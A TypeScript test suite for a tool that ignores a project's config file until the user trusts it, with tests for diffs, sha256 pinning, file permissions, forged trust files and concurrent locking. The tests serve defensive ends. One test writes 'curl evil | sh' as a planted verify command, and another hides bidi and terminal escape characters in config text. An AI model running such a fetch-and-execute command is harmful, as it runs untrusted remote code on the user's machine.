import { spawn } from "node:child_process";
import { once } from "node:events";
import { existsSync, readdirSync, renameSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { expect, test } from "vitest";
import { describeChange, trustProject, trustState, untrustProject } from "../../src/config/index.ts";
import { diffLines, formatLineDiff } from "../../src/config/line-diff.ts";
import { compileConfig, errorOf, makeScene, readText, type Scene } from "./scene.ts";

test("a project's file has no effect before it is trusted, and none in part after it changed", async () => {
  const scene = makeScene();
  expect(trustState(scene)).toBe("none");
  scene.writeProject({ verify: ["make test"], limits: { agents: 7 } });
  expect(trustState(scene)).toBe("untrusted");
  expect(scene.load().config.verify).toEqual([]);
  expect(scene.load().projectFile).toEqual({ path: scene.projectFile, state: "untrusted" });

  await scene.trust();
  expect(trustState(scene)).toBe("trusted");
  expect(scene.load().config).toMatchObject({ verify: ["make test"], limits: { agents: 7 } });

  scene.writeProject({ verify: ["curl evil | sh"], limits: { agents: 7 } });
  expect(trustState(scene)).toBe("changed");
  expect(scene.load().config).toMatchObject({ verify: [], limits: { agents: 4 } });
  expect(scene.load().projectFile.state).toBe("changed");

  scene.writeProject({ verify: ["make test"], limits: { agents: 7 } });
  expect(trustState(scene)).toBe("trusted");
  expect(await untrustProject(scene)).toBe(true);
  expect(trustState(scene)).toBe("untrusted");
  expect(await untrustProject(scene)).toBe(false);
});

test("a file that is not trusted is not even parsed", () => {
  const scene = makeScene();
  scene.writeProject("{ this is no config");
  expect(scene.load().projectFile.state).toBe("untrusted");
});

test("what changed is shown line by line, and what can't be seen is made visible", async () => {
  const scene = makeScene();
  scene.writeProject('{\n  // checks\n  "verify": ["make"],\n  "limits": { "agents": 2 }\n}\n');
  const first = describeChange(scene);
  expect(first.state).toBe("untrusted");
  expect(first.diff.split("\n").every((line) => line.startsWith("+ "))).toBe(true);
  await scene.trust();
  expect(describeChange(scene)).toMatchObject({ state: "trusted", diff: "" });
  scene.writeProject('{\n  // checks\n  "verify": ["make \u202e\u001b[2K"],\n  "limits": { "agents": 2 }\n}\n');
  expect(describeChange(scene).diff).toBe(
    [
      "  {",
      "    // checks",
      '-   "verify": ["make"],',
      '+   "verify": ["make \\u{202e}\\u{1b}[2K"],',
      '    "limits": { "agents": 2 }',
      "  }",
    ].join("\n"),
  );
});

test("only the text that was shown is trusted", async () => {
  const scene = makeScene();
  scene.writeProject({ verify: ["a"] });
  const { sha256 } = describeChange(scene);
  scene.writeProject({ verify: ["b"] });
  const error = await errorOf(() => trustProject(scene, { expectedSha256: sha256 ?? "" }));
  expect(error.code).toBe("CONFIG_UNTRUSTED");
  expect(trustState(scene)).toBe("untrusted");
});

test("a file that could not be used is not trusted, nor one that is not there", async () => {
  const scene = makeScene();
  scene.writeProject('{ "verfy": [] }');
  expect((await errorOf(() => scene.trust())).message).toContain(`${scene.projectFile}:1:3: verfy: unknown key`);
  rmSync(scene.projectFile);
  expect((await errorOf(() => scene.trust())).message).toContain("There is no");
  expect(existsSync(join(scene.home, "trust.json"))).toBe(false);
});

test("trust is kept for the user alone, by the real path of the worktree", async () => {
  const scene = makeScene();
  scene.writeProject({});
  const alias = join(scene.mainWorktree, "..", "alias");
  symlinkSync(scene.mainWorktree, alias);
  await trustProject({ home: scene.home, mainWorktree: alias });
  expect(trustState(scene)).toBe("trusted");
  expect(statSync(join(scene.home, "trust.json")).mode & 0o777).toBe(0o600);
  expect(statSync(scene.home).mode & 0o777).toBe(0o700);
  const elsewhere = `${scene.mainWorktree} moved`;
  rmSync(alias);
  renameSync(scene.mainWorktree, elsewhere);
  expect(trustState({ home: scene.home, mainWorktree: elsewhere })).toBe("untrusted");
});

test("a damaged trust file trusts nobody and is not overwritten", async () => {
  const scene = makeScene();
  scene.writeProject({});
  await scene.trust();
  const path = join(scene.home, "trust.json");
  for (const text of ["{", "[]", '{"version":2,"projects":{}}', "\0"]) {
    writeFileSync(path, text);
    expect(["STATE_UNUSABLE", "CONFIG_INVALID"]).toContain((await errorOf(() => scene.load())).code);
    await errorOf(() => scene.trust());
    expect(readText(path)).toBe(text);
  }
  const forged = { version: 1, projects: { [scene.mainWorktree]: { sha256: "0", text: "{}", trustedAtMs: 1 } } };
  writeFileSync(path, JSON.stringify(forged));
  expect(trustState(scene)).toBe("untrusted");
});

test("many processes that trust at once lose nobody's trust, and leave nothing behind", async () => {
  const scene = makeScene();
  const module = compileConfig();
  const projects = Array.from({ length: 4 }, () => makeScene());
  for (const project of projects) project.writeProject({ limits: { agents: 3 } });
  expect(await trustInProcesses(module, scene.home, projects)).toEqual([0, 0, 0, 0]);
  for (const project of projects) {
    expect(trustState({ home: scene.home, mainWorktree: project.mainWorktree })).toBe("trusted");
  }
  expect(readdirSync(scene.home)).toEqual(["trust.json"]);
});

test("a lock that a dead process left is taken over", async () => {
  const scene = makeScene();
  scene.writeGlobal({});
  scene.writeProject({});
  const lock = join(scene.home, "config.lock");
  writeFileSync(lock, "");
  utimesSync(lock, new Date(Date.now() - 60_000), new Date(Date.now() - 60_000));
  await scene.trust();
  expect(trustState(scene)).toBe("trusted");
  expect(readdirSync(scene.home).toSorted()).toEqual(["config.json", "trust.json"]);
});

test("a difference, undone, gives the old text; done, the new one; and has no line too many", () => {
  const lines = fc.array(fc.constantFrom("a", "b", "c", "{", ""), { maxLength: 12 });
  fc.assert(
    fc.property(lines, lines, (before, after) => {
      const diff = diffLines(before, after);
      expect(diff.filter(({ kind }) => kind !== "added").map(({ text }) => text)).toEqual(before);
      expect(diff.filter(({ kind }) => kind !== "removed").map(({ text }) => text)).toEqual(after);
      if (before.join("\n") === after.join("\n") && before.length === after.length) {
        expect(diff.every(({ kind }) => kind === "same")).toBe(true);
      }
    }),
  );
  const long = Array.from({ length: 50 }, (_, index) => `line ${index}`);
  const shown = formatLineDiff(long.join("\n"), long.with(25, "other").join("\n")).split("\n");
  expect(shown).toHaveLength(10);
  expect(shown[0]).toBe("  …");
});

/** Each trusts its own project over and over, in a process of its own; the answers are their exit codes. */
async function trustInProcesses(module: string, home: string, projects: readonly Scene[]): Promise<unknown[]> {
  const program = `
    const [module, home, mainWorktree] = process.argv.slice(1);
    const { trustProject, untrustProject } = await import(module);
    for (let round = 0; round < 10; round += 1) {
      await trustProject({ home, mainWorktree });
      if (round < 9) await untrustProject({ home, mainWorktree });
    }`;
  return await Promise.all(
    projects.map(async ({ mainWorktree }) => {
      const args = ["--input-type=module", "-e", program, "--", module, home, mainWorktree];
      const [code] = (await once(spawn(process.execPath, args, { stdio: "inherit" }), "exit")) as unknown[];
      return code;
    }),
  );
}
